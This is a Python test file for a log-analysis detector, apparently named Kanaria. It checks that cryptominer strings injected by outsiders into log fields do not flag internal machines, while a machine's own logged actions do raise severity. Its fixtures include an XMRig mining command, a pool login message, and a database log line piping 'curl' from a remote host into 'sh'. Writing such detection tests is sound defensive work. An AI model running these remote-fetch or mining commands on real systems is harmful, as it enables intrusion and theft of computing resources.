"""What somebody outside can write into records of ours names no machine of ours as one that mines or was broken into.

Names of users, subjects of mails, headers, names in certificates and questions, what sensors quote: each is told, if at
all, as something that was sent. The same words where the machine itself says that it did so are heard.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.app.running import Kanaria
from tests.app.test_records_of_others import POOL, WALLET, hear

STRANGER = "203.0.113.7"
RUN = f"./xmrig -o {POOL}:3333 -u {WALLET}"
LOGIN = json.dumps({
    "id": 1, "jsonrpc": "2.0", "method": "login",
    "params": {"login": WALLET, "pass": "x", "agent": "XMRig/6.21.0", "algo": ["rx/0"]},
})  # fmt: skip
NOTICE = {
    "_path": "notice", "ts": 1767949200.1, "id.orig_h": STRANGER, "id.orig_p": 50000, "id.resp_h": "192.168.1.53",
    "id.resp_p": 80, "note": "HTTP::Example", "src": STRANGER, "dst": "192.168.1.53",
}  # fmt: skip
NAMED = {"_path": "ssl", "ts": 1767949200.1, "uid": "C1", "id.orig_h": STRANGER, "id.orig_p": 50000,
         "id.resp_h": "192.168.1.53", "id.resp_p": 443, "version": "TLSv12", "established": True}  # fmt: skip

WRITTEN = {
    "agent": f'{STRANGER} - - [10/Jan/2026:09:00:00 +0000] "GET / HTTP/1.1" 200 512 "-" "XMRig/6.21.0 (Linux)"',
    "forwarded for": f'{STRANGER} - - [10/Jan/2026:09:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "XMRig/6.21.0" '
    '"192.168.1.20"',
    "referrer": f'{STRANGER} - - [10/Jan/2026:09:00:00 +0000] "GET / HTTP/1.1" 200 5 "https://{POOL}/" "Mozilla/5.0"',
    "forwarded for, in JSON": json.dumps({
        "time": "2026-01-10T09:00:00Z", "remote_addr": STRANGER, "http_x_forwarded_for": "192.168.1.20",
        "request": "POST / HTTP/1.1", "request_body": LOGIN, "status": 400,
    }),
    "name of a user": f"Jan 10 09:00:00 web1 sshd[900]: Failed password for invalid user {RUN} from {STRANGER} port "
    "50000 ssh2",
    "name of a user, in the journal": json.dumps({
        "__REALTIME_TIMESTAMP": "1767949200000000", "_HOSTNAME": "web1", "SYSLOG_IDENTIFIER": "sshd", "_PID": "900",
        "MESSAGE": f"Invalid user {RUN} from {STRANGER} port 50000",
    }),
    "greeting of a mail": f"Jan 10 09:00:00 mail postfix/smtpd[900]: NOQUEUE: reject: RCPT from unknown[{STRANGER}]: "
    f"554 5.7.1 <x>: Helo command rejected; from=<a@b.example> to=<c@d.example> proto=SMTP helo=<{POOL}>",
    "subject of a mail": f"Jan 10 09:00:00 mail postfix/cleanup[900]: ABC: warning: header Subject: {RUN} from "
    f"unknown[{STRANGER}]; from=<a@b.example> to=<c@d.example> proto=ESMTP helo=<x>",
    "certificate": f"Jan 10 09:00:00 gw openvpn[900]: {STRANGER}:50000 VERIFY ERROR: depth=0, error=x, CN={POOL}",
    "a script's warning": f"[Sat Jan 10 09:00:00.123456 2026] [php:error] [pid 900] [client {STRANGER}:50000] PHP "
    f"Warning: undefined index '{RUN}' in /var/www/x.php on line 3",
    "notice that quotes": json.dumps({**NOTICE, "msg": LOGIN, "sub": LOGIN}),
    "name in a handshake": json.dumps({**NAMED, "server_name": POOL}),
    "question": f"10-Jan-2026 09:00:00.123 queries: info: client @0x7f1 {STRANGER}#50000 ({POOL}): query: {POOL} IN A "
    "+E(0)K (192.168.1.53)",
    "tunnel that a proxy refused": f"1767949200.123 0 {STRANGER} TCP_DENIED/403 3900 CONNECT {POOL}:443 - HIER_NONE/- "
    "text/html",
    "a line within a name": 'Jan 10 09:00:00 web1 app[900]: login failed for user "bob\\nJan 10 09:00:01 web1 kernel: '
    f'{RUN}"',
    "a dropped packet": f"Jan 10 09:00:00 gw kernel: [1.0] DROP IN=eth0 OUT= SRC={STRANGER} DST=192.168.1.53 LEN=60 "
    "PROTO=TCP SPT=3333 DPT=50000 SYN",
}  # fmt: skip

SAID = {
    "started": f"Jan 10 09:00:00 mail CRON[900]: (root) CMD ({RUN})",
    "a database's own word": f"2026-01-10 09:00:00.123 UTC [900] app@db {STRANGER}(50000) LOG:  statement: COPY t FROM "
    f"PROGRAM 'curl http://203.0.113.9/x.sh | sh'",
    "a program that went there": f"Jan 10 09:00:00 gw app[900]: connected to {POOL}:3333 (203.0.113.50)",
    "a device's question to a server of any kind": f"Jan 10 09:00:00 gw other[900]: 192.168.1.20:5000 asks {POOL}",
}


@pytest.mark.parametrize("name", WRITTEN)
def test_what_a_stranger_wrote_accuses_nobody(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    said = hear(kanaria, tmp_path, WRITTEN[name] + "\n")
    against = [one for one in said.document["incidents"] if one["hypotheses"][0]["name"] == "compromised_device"]
    # Of a resolver's client that may be anybody's it is said that it may be.
    assert {found["device"] for one in against for found in one["findings"]} <= {STRANGER}
    assert said.severity in ("silent", "informational", "low", "medium")  # what was sent may be an attempt, and no more


@pytest.mark.parametrize("name", SAID)
def test_what_the_machine_says_of_itself_is_heard(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    assert hear(kanaria, tmp_path, SAID[name] + "\n").severity in ("medium", "high", "critical")
